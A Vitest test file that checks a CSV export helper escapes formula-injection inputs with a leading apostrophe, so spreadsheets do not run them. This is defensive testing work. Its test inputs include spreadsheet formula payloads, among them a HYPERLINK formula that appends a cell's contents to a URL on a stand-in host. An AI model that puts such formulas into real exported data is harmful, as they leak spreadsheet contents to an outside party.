import Papa from "papaparse";
import { expect, test } from "vitest";
import { csvLine } from "@/lib/csv";

test("a line of CSV gives back its cells, whatever they contain", () => {
  const cells = ["plain", 'say "hi", twice', "two\r\nlines", "", "a;b", 12, null, true];
  expect(Papa.parse(csvLine(cells).trimEnd()).data).toEqual([
    ["plain", 'say "hi", twice', "two\r\nlines", "", "a;b", "12", "", "true"],
  ]);
});

test.each([
  "＝1",
  " =1",
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  '=HYPERLINK("http://x.example?"&A1)',
])("a spreadsheet does not run %j", (text) => {
  const [[cell]] = Papa.parse<string[]>(csvLine([text]).slice(0, -2)).data as [[string]];
  expect(cell).toBe(`'${text}`);
});

test("a negative number stays a number", () => {
  expect(csvLine([-1])).toBe("-1\r\n");
});
